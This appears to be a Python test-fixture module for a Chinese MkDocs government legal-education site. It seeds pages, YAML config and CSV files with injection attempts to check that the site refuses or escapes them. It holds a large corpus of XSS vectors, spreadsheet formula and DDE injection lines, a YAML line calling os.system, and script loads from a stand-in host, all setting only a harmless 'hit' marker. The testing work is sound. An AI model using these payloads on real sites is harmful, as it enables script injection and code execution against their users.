"""Ways in which text could become a program: what staff might type, paste or be sent, field by field.

`hit` is what every attempt tries to set; nothing may ever set it. Each field's text has a number
of its own, so that the pages can be searched for it.
"""

from __future__ import annotations

import csv
import io
from itertools import cycle
from pathlib import Path

from PIL import Image

REFUSED, LITERAL = "拒绝", "照印"

# In the text of a page. Each becomes a page of its own.
BODIES: dict[str, tuple[str, str]] = {
    "脚本": (REFUSED, "<script>hit=1</script>"),
    "脚本大小写混写": (REFUSED, "好<ScRiPt>hit=1</sCrIpT>"),
    "脚本没有结束": (LITERAL, '<script src=//example.com/hit=1.js'),
    "脚本夹在脚本里": (REFUSED, "<scr<script>ipt>hit=1</scr</script>ipt>"),
    "标签名里有空字符": (REFUSED, "<scr\0ipt>hit=1</scr\0ipt>"),
    "图片出错就运行": (REFUSED, '<img src="x" onerror="hit=1">'),
    "斜线代替空格": (REFUSED, "<img/src=x/onerror=hit=1>"),
    "换行代替空格": (REFUSED, '<img\nsrc="x"\nonerror\n=\n"hit=1">'),
    "换页符代替空格": (REFUSED, '<img\fsrc="x"\fonerror="hit=1">'),
    "属性里有空字符": (REFUSED, '<b o\0nclick="hit=1">好</b>'),
    "引号没有配对": (LITERAL, "<b title=\"x onclick='hit=1\">好</b>'>"),
    "没有引号的属性": (REFUSED, '<b title=x`onmouseover=hit=1 onclick=hit=1>好</b>'),
    "矢量图": (REFUSED, '<svg onload="hit=1"><animate onbegin="hit=1" attributeName="x"></svg>'),
    "矢量图里的脚本": (REFUSED, "<svg><script>hit=1</script></svg>"),
    "数学公式": (REFUSED, "<math><maction xlink:href=javascript:hit=1>点</maction></math>"),
    "变形的数学公式": (REFUSED, "<math><mtext><mglyph><style><img src=x onerror=hit=1></style></math>"),
    "变形的样式": (REFUSED, "<svg></p><style><g title=\"</style><img src=x onerror=hit=1>\">"),
    "变形的不运行": (REFUSED, "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\">"),
    "变形的注释": (REFUSED, '好<!--> <img src="x" onerror="hit=1"> -->'),
    "注释结尾不正": (REFUSED, '好<!-- --!> <img src="x" onerror="hit=1"> -->'),
    "声明": (REFUSED, "<!DOCTYPE x [<!ENTITY a '<script>hit=1</script>'>]>\n\n&a;"),
    "处理指令": (REFUSED, "<?xml-stylesheet href='javascript:hit=1'?>"),
    "字符数据": (REFUSED, "<![CDATA[<script>hit=1</script>]]>"),
    "网页里的网页": (REFUSED, "<iframe src=javascript:parent.hit=1></iframe>"),
    "写在属性里的网页": (REFUSED, "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>"),
    "对象": (REFUSED, "<object data=data:text/html,<script>parent.hit=1</script>></object>"),
    "嵌入": (REFUSED, '<embed src="javascript:hit=1">'),
    "表单": (REFUSED, "<form action=javascript:hit=1><button>点</button></form>"),
    "自动聚焦": (REFUSED, '<input autofocus onfocus="hit=1">'),
    "样式表": (REFUSED, "<style>@import 'https://example.com/x.css'</style>"),
    "行内样式": (REFUSED, "<p style=\"background:url(https://example.com/x)\">好</p>"),
    "外面的样式表": (REFUSED, "<link rel=stylesheet href=https://example.com/x.css>"),
    "自动跳转": (REFUSED, "<meta http-equiv=refresh content='0;url=javascript:hit=1'>"),
    "换掉起点网址": (REFUSED, "<base href=https://example.com/>"),
    "新窗口": (REFUSED, "<a href=https://example.com/ target=_blank rel=opener>好</a>"),
    "模板": (REFUSED, "<template><script>hit=1</script></template>"),
    "链接": (REFUSED, "[好](javascript:hit=1)"),
    "链接大小写混写": (REFUSED, "[好](JaVaScRiPt:hit=1)"),
    "链接写成实体": (REFUSED, "[好](&#106;avascript&colon;hit=1)"),
    "链接里有制表符": (REFUSED, "[好](<java\tscript:hit=1>)"),
    "链接里有换行": (REFUSED, "<a href='java\nscript:hit=1'>好</a>"),
    "链接里有控制字符": (REFUSED, "<a href='\x01javascript:hit=1'>好</a>"),
    "参考式链接": (REFUSED, "[好][一]\n\n[一]: javascript:hit=1"),
    "数据网址": (REFUSED, "[好](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)"),
    "旧浏览器的网址": (REFUSED, "[好](vbscript:hit=1)"),
    "尖括号网址": (REFUSED, "<a href=javascript:hit=1>好</a>"),
    "图片取自别处": (REFUSED, "![居民在讲座上提问](https://example.com/x.png)"),
    "图片是矢量图": (REFUSED, "![居民在讲座上提问](data:image/svg+xml,<svg/onload=hit=1>)"),
    "大括号里的事件": (REFUSED, "[好](index.md){onclick=hit=1}"),
    "大括号里的网址": (REFUSED, "[好](index.md){href=javascript:hit=1}"),
    "标题后面的大括号": (REFUSED, "## 好 {#hao onmouseover='hit=1'}"),
    "段落后面的大括号": (REFUSED, "好\n{: onclick=\"hit=1\" style=\"color:red\" }"),
    "表格里的大括号": (REFUSED, "| 甲 {onclick=hit=1} | 乙 |\n|---|---|\n| 丙 | 丁 |"),
    "插入语句": (REFUSED, "{{ hit }} {% include 'x' %}"),
    "脚注里": (REFUSED, '好[^1]\n\n[^1]: <img src="x" onerror="hit=1">'),
    "表格里": (REFUSED, '| 甲 | 乙 |\n|---|---|\n| <b onclick="hit=1">丙</b> | 丁 |'),
    "引用里": (REFUSED, '> - <details ontoggle="hit=1" open>好</details>'),
    "链接的标题": (LITERAL, "[好](index.md 'x\" onmouseover=\"hit=1')"),
    "图片的说明": (LITERAL, "![居民在讲座上提问 \" onerror=\"hit=1](tu.jpg)"),
    "缩写": (LITERAL, "好 ABC\n\n*[ABC]: x\" onmouseover=\"hit=1"),
    "反引号里": (LITERAL, "好`<script>hit=1</script>`"),
    "代码块里": (LITERAL, "```html\n<script>hit=1</script>\n```"),
    "代码块的名字": (LITERAL, "``` x\"onmouseover=hit=1\nhit=1\n```"),
    "代码块的属性": (REFUSED, "``` {.html onclick='hit=1' style='color:red'}\n<b>好</b>\n```"),
    "缩进的代码": (LITERAL, "好\n\n    <script>hit=1</script>"),
    "实体": (LITERAL, "&lt;script&gt;hit=1&lt;/script&gt; &#60;img src=x onerror=hit=1&#62;"),
    "自动链接": (LITERAL, "<https://example.com/\"onmouseover=\"hit=1>"),
    "没有写完的标签": (LITERAL, "好<img src=x onerror=hit=1"),
    "图片后面的大括号": (REFUSED, "![居民在讲座上提问](tu.jpg){onerror=hit=1}"),
    "强调后面的样式": (REFUSED, '**好**{style="background:url(https://example.com/hit=1)"}'),
    "列表后面的大括号": (REFUSED, "* 好\n{: onclick=hit=1 }"),
    "新窗口的大括号": (REFUSED, "[好](https://example.com/){target=_blank rel=opener}"),
    "冒号写成实体": (REFUSED, "[好](javascript&#58;hit=1)"),
    "制表符写成实体": (REFUSED, "[好](java&Tab;script:hit=1)"),
    "换行写成实体": (REFUSED, "[好](java&NewLine;script&colon;hit=1)"),
    "两层的网址": (REFUSED, "[好](view-source:javascript:hit=1)"),
    "尖括号里的脚本网址": (REFUSED, "<javascript:hit=1>"),
    "反斜线的网址": (REFUSED, "[好](/\\example.com/hit=1)"),
    "参考式图片": (REFUSED, "![居民在讲座上提问][一]\n\n[一]: https://example.com/hit=1.png"),
    "图片的另一份": (REFUSED, '<img src="tu.jpg" srcset="https://example.com/hit=1 2x" alt="居民在提问">'),
    "一点就报信": (REFUSED, '<a href="https://example.com/" ping="https://example.com/hit=1">好</a>'),
    "盖住网页的变量": (REFUSED, '<a name="hit" href="https://example.com/">好</a>'),
    "背景图": (REFUSED, '<table background="https://example.com/hit=1"><tr><td>好</td></tr></table>'),
    "弹出层": (REFUSED, "<button popovertarget=x onbeforetoggle=hit=1>点</button>"),
    "自己起名的标签": (REFUSED, "<x-y onfocus=hit=1 tabindex=1 autofocus>好</x-y>"),
    "后面全是原文": (REFUSED, "<plaintext>hit=1"),
    "变形的文本框": (REFUSED, "<textarea></textarea><script>hit=1</script>"),
    "代码块的标题": (REFUSED, "```python {title=\"<img src=x onerror=hit=1>\" onclick=hit=1}\n好\n```"),
    "收尾标签多了": (REFUSED, "好</div></div><b>hit=1</b>"),
    "网页的收尾标签": (REFUSED, "好</main></body>hit=1"),
    "没有收尾": (REFUSED, "<details><summary>hit=1</summary>好"),
    "转换器自己的记号": (REFUSED, "\x02wzxhzdk:0\x03 <b>hit=1</b>"),
    "倒着排的字": (REFUSED, "好\u202e1=tih\u202c好"),
    "小标题里的实体": (LITERAL, "## 好 &lt;img src=x onerror=hit=1&gt;\n\n好。"),
    "脚注的名字": (LITERAL, '好[^" onclick="hit=1]\n\n[^" onclick="hit=1]: 注'),
    "后面写的标题": (LITERAL, "[好][一]\n\n[一]: index.md \"x' onclick='hit=1\""),
    "网站自己的记号": (LITERAL, "<!--/main-->\n\n好 hit=1\n\n<!--main-->"),
}  # fmt: skip

# In a field of a form: each field gets the next of these.
_TEXTS = (
    "<script>hit={n}</script>",
    '"><img src=x onerror=hit={n}>',
    "</title><svg onload=hit={n}>",
    "' onfocus=hit={n} autofocus x='",
    '<iframe srcdoc="<script>parent.hit={n}</script>">',
    "<b onclick=hit={n}>点",
    "</script><ScRiPt>hit={n}</ScRiPt>",
    "&lt;script&gt;hit={n}&lt;/script&gt;",
)
_FIELDS: dict[str, str] = {
    "mkdocs.yml": """INHERIT: mkdocs.base.yml
site_name: ⟦网站名⟧
site_description: ⟦网站说明⟧
extra:
  单位:
    名称: ⟦单位名称⟧
    全称: ⟦单位全称⟧
    说明: ⟦单位说明⟧
    公众号: ⟦公众号⟧
    公开存疑: 是
    公开缺口: 是
    电话:
      - {号码: '12348', 名称: ⟦电话名称⟧, 用途: ⟦电话用途⟧, 首页: 是}
    地点:
      - {名称: ⟦地点名称⟧, 地址: ⟦地点地址⟧, 时间: ⟦地点时间⟧}
""",
    "docs/index.md": """---
标题: ⟦首页标题⟧
摘要: ⟦首页摘要⟧
导语: ⟦首页导语⟧
题记: ⟦首页题记⟧
---
""",
    "docs/help/index.md": """---
标题: ⟦找谁标题⟧
导语: ⟦找谁导语⟧
步骤:
  - 标题: ⟦步骤标题⟧
    说明: ⟦步骤说明⟧
---
""",
    "docs/reports/2023.md": """---
标题: 2023年度样例街道工作报告
摘要: ⟦报告摘要⟧
发布机构: ⟦发布机构⟧
发布日期: 2024-01-31
报告年度: 2023
原文指纹: dd4e9055682764f888668e4ad3159b136830d2944d1b8b5837535b8342f8d265
数字:
  - {编号: lectures, 名称: ⟦数字名称⟧, 写法: 12场, 原文: 全年举办讲座12场, 分组: ⟦数字分组⟧, 首页: 是}
  - {编号: open, 名称: ⟦第二个数字⟧, 写法: 40条, 原文: 主动公开信息40条, 分组: 公开}
图表:
  - {名称: ⟦图表名称⟧, 数字: [lectures, open], 说明: ⟦图表说明⟧}
存疑:
  - {原文: 主动公开信息40条, 说明: ⟦存疑说明⟧}
---

样例街道报告如下。

## 一、主要工作

一是开展普法。全年举办讲座12场，惠及300余人次。二是做好公开。主动公开信息40条。
""",
    "docs/duties/2023.md": """---
标题: ⟦清单标题⟧
年度: 2023
导语: ⟦清单导语⟧
来源: ⟦清单来源⟧
---
""",
    "docs/activities/2023/index.md": """---
标题: ⟦目录页标题⟧
---
""",
    "docs/activities/2023/jiangzuo.md": """---
标题: ⟦活动标题⟧
摘要: ⟦活动摘要⟧
日期: 2023-05-04
时段: ⟦时段⟧
地点: ⟦地点⟧
主办: ⟦主办⟧
协办: ⟦协办⟧
对象: ⟦对象⟧
主题: ⟦主题⟧
法律法规: '《<b onclick=hit=901>法》'
范围: ⟦范围⟧
结果: ⟦结果⟧
来源: ⟦活动来源⟧
普法责任:
  - 2023-01
封面: 1.jpg
图片说明:
  - 图片: 1.jpg
    说明: ⟦照片说明⟧
授权:
  肖像: 认不出人
  未成年人: 没有
---
那天来了很多人。
""",
    "docs/help/plain.md": """---
标题: 甲<img src=x onerror=hit=900>乙
标题分行: 甲<img src=x /onerror=hit=900>乙
---
好。
""",
    "docs/calendar.md": """---
标题: ⟦日历标题⟧
---
""",
}  # fmt: skip
_TABLES: dict[str, tuple[str, list[str]]] = {
    "docs/duties/2023.csv": (
        "编号,类别,普法内容,法律法规,责任部门,配合部门,普法对象,时间节点,形式,完成时限,依据",
        ["2023-01", "共性", "⟦普法内容⟧", "《⟦法律法规⟧》", "⟦责任部门⟧", "⟦配合部门⟧", "⟦普法对象⟧",
         "⟦时间节点⟧", "⟦形式⟧", "⟦完成时限⟧", ""],
    ),
    "docs/calendar.csv": (
        "编号,日子,名称,性质,依据,说明", ["one", "03-12", "⟦日子名称⟧", "宣传日", "⟦日子依据⟧", "⟦日子说明⟧"]
    ),
    "docs/_everyday.csv": ("居民说,网上写", ["⟦居民说⟧", "⟦网上写⟧"]),
    "docs/_words.csv": ("错,对,理由", ["⟦错的⟧", "⟦对的⟧", "⟦理由⟧"]),
}  # fmt: skip
# What no page shows: it is used, or only programs read it.
_UNSEEN = {"网站说明", "单位名称", "居民说", "网上写", "错的", "对的", "理由"}

# What no field lets in: the file, the line that stands for another, and the line of the finding.
CELLS: dict[str, tuple[str, str]] = {
    "旧地址": ("docs/redirects.csv", 'help/"><script>hit=1</script>.html,help/index.html'),
    "新地址": ("docs/redirects.csv", "help/alt.html,javascript:hit=1"),
    "原文地址": ("docs/reports/2023.md", "原文地址: javascript:hit=1"),
    "原文链接": ("docs/activities/2023/jiangzuo.md", "原文链接: 'https://example.com/\"onclick=hit=1'"),
    "普法责任编号": ("docs/activities/2023/jiangzuo.md", "  - '\"><script>hit=1</script>'"),
    "电话号码": ("mkdocs.yml", "      - {号码: '110\"><script>hit=1</script>', 名称: 报警, 用途: 报警}"),
    "仓库网址": ("mkdocs.yml", "    仓库: {种类: Gitee, 网址: 'javascript:hit=1'}"),
    "文件名": ('docs/help/"><img src=x onerror=hit=1>.md', "标题: 好"),
    "矢量图附件": ("docs/help/tu.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="hit=1"/>'),
    "网页附件": ("docs/help/ye.html", "<script>hit=1</script>"),
    "盖住网站的脚本": ("docs/assets/site.js", "hit=1"),
    "盖住公开的数据": ("docs/data/figures.csv", "=hit=1"),
    "带宏的文件": ("docs/help/hong.docm", "hit=1"),
    "手机上的程序": ("docs/help/ruanjian.apk", "hit=1"),
    "没有结尾的文件": ("docs/help/ye", "<script>hit=1</script>"),
    "主机的设置": ("docs/web.config", "<script>hit=1</script>"),
    "表格里的公式": ("docs/reports/2023.md", "主题词: '=HYPERLINK(\"https://example.com/hit=1\")'"),
    "表格里的命令": ("docs/activities/2023/jiangzuo.md", "主题词: \"-1+hit|' /C calc'!A0\""),
    "配置里的程序": ("mkdocs.yml", "site_url: !!python/object/apply:os.system ['hit=1']"),
    "配置里的脚本": ("mkdocs.yml", "extra_javascript: ['https://example.com/hit=1.js']"),
    "配置里的网址": ("mkdocs.yml", "site_url: 'https://example.com/\"><script>hit=1</script>'"),
}


# Behind the address of a page: what a link from elsewhere may bring.
ADDRESSES = (
    '?q=<img src=x onerror=hit=1>&view="><script>hit=1</script>',
    '?q="><svg onload=hit=1>&部门=<img src=x onerror=hit=1>#"><img src=x onerror=hit=1>',
    "?view=large%22onload=%22hit=1#javascript:hit=1",
    "#%3Cimg src=x onerror=hit=1%3E",
    "#%E0%A4%A",
)


def write_fields(root: Path) -> dict[str, str]:
    """Fill every field of the office in `root`; return what stands in each that the site shows."""
    texts = cycle(_TEXTS)
    written: dict[str, str] = {}

    def filled(text: str, quoted: bool) -> str:
        while "⟦" in text:
            before, _, rest = text.partition("⟦")
            name, _, after = rest.partition("⟧")
            value = written[name] = next(texts).format(n=len(written) + 100)
            text = before + ("'" + value.replace("'", "''") + "'" if quoted else value) + after
        return text

    for path, text in _FIELDS.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(filled(text, quoted=True), "utf-8")
    for path, (head, cells) in _TABLES.items():
        line = io.StringIO()
        csv.writer(line, lineterminator="\n").writerow([filled(cell, quoted=False) for cell in cells])
        (root / path).write_text(f"{head}\n{line.getvalue()}", "utf-8")
    for path in ("docs/activities/2023/jiangzuo/1.jpg", "docs/help/tu.jpg"):
        (root / path).parent.mkdir(exist_ok=True)
        Image.new("RGB", (400, 300), "grey").save(root / path)
    return {name: value for name, value in written.items() if name not in _UNSEEN}


def write_bodies(root: Path) -> dict[str, str]:
    """Write a page for every attempt in a text; the path of each, by the attempt's name."""
    paths = {}
    for number, (name, (_, body)) in enumerate(BODIES.items()):
        paths[name] = f"docs/help/t{number}.md"
        (root / paths[name]).write_text(f"---\n标题: 第{number}页\n---\n\n{body}\n", "utf-8", newline="")
    return paths
